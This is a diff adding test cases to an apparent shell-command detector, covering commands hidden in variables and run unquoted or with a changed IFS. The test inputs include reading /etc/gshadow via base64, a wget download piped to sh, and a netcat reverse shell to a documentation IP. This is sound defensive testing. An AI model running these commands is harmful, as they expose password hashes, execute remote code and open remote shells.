@@ -142,3 +142,21 @@ describe('commands that run through another program', () => {
     expect(reads).toEqual(['~/.ssh/id_rsa']);
   });
 });
+
+// Written after unquoted expansions were split on IFS (the line's own, or space, tab and newline).
+describe('a command kept in a variable and run unquoted', () => {
+  it.each([
+    ['space-separated, base64 of gshadow', 'p="base64 /etc/gshadow"; $p', 'password-hash-read'],
+    ['IFS set to +, a download piped to sh', 'IFS=+; c=wget+-qO-+http://198.51.100.7/x; $c | sh', 'download-piped-to-shell'],
+    ['a reverse shell kept in a variable', 'run="nc -e /bin/sh 203.0.113.5 4444"; $run', 'reverse-shell-netcat'],
+  ])('%s: %s', (_name, command, rule) => {
+    expect(ruleOf(command)).toContain(rule);
+  });
+
+  it.each([
+    ['options in a variable', 'opts="-la --color=auto"; ls $opts src', ['ls -la --color=auto src']],
+    ['a quoted expansion stays one word', 'msg="two words"; printf %s "$msg"', ['printf %s two words']],
+  ])('%s', (_name, line, want) => {
+    expect(argvs(line).filter((a) => !a.startsWith('opts=') && !a.startsWith('msg='))).toEqual(want);
+  });
+});
